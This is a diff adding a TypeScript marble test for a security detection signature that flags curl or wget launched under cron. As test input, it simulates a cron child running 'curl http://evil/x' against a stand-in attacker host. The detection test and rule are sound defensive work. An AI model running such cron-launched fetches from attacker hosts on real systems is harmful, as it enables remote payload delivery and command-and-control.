@@ -1,0 +1,47 @@
+/** The example of marbles/README.md, verbatim but for the import paths. */
+import { enrich } from '../src/operators/enrich.js';
+import { eventSignature } from '../src/signatures/eventSignature.js';
+import { runSignatures } from '../src/signatures/runSignatures.js';
+import type { SignatureMetadata } from '../src/signatures/types.js';
+import type { Envelope } from '../src/streams/types.js';
+import { finding, marbleTest, world } from './index.js';
+
+// ── the signature under test ──
+const META: SignatureMetadata = {
+  id: 'MY-001',
+  name: 'curl piped from a cron job',
+  version: '1',
+  description: 'curl or wget run by a process whose parent is cron',
+  tags: ['linux'],
+  properties: { Severity: 2, Category: 'command-and-control', external_id: 'T1105' },
+};
+
+const curlUnderCron = eventSignature(META, ['sched_process_exec'], (e) => {
+  const p = e.context.process;
+  const parent = e.context.ancestors[0];
+  if (p === undefined || parent === undefined) return undefined;
+  if (!['curl', 'wget'].includes(p.name) || parent.name !== 'cron') return undefined;
+  return { tool: p.name, url: p.cmd[1] };
+});
+
+// ── the test ──
+describe('curlUnderCron', () => {
+  it('fires for cron → sh → curl, not for bash → curl', () => {
+    const w = world();
+    const cron = w.process({ pid: 400, comm: 'cron', exe: '/usr/sbin/cron' });
+    const bash = w.process({ pid: 500, comm: 'bash', exe: '/usr/bin/bash' });
+
+    const job = w.fork(cron, { pid: 401 }); // cron forks a child…
+    const curl = w.exec(job.child, { path: '/usr/bin/curl', argv: ['curl', 'http://evil/x'] }); // …that execs curl
+    const mine = w.fork(bash, { pid: 501 });
+    const curl2 = w.exec(mine.child, { path: '/usr/bin/curl', argv: ['curl', 'http://example.com'] });
+
+    marbleTest(({ cold, expectFindings }) => {
+      const events$ = cold<Envelope>('-a-b-c-d-|', { a: job.event, b: curl, c: mine.event, d: curl2 });
+      const findings$ = events$.pipe(enrich(), runSignatures([curlUnderCron]));
+      expectFindings(findings$).toBe('---x-----|', {
+        x: finding('MY-001', { pid: 401, comm: 'curl', data: { tool: 'curl', url: 'http://evil/x' } }),
+      });
+    });
+  });
+});
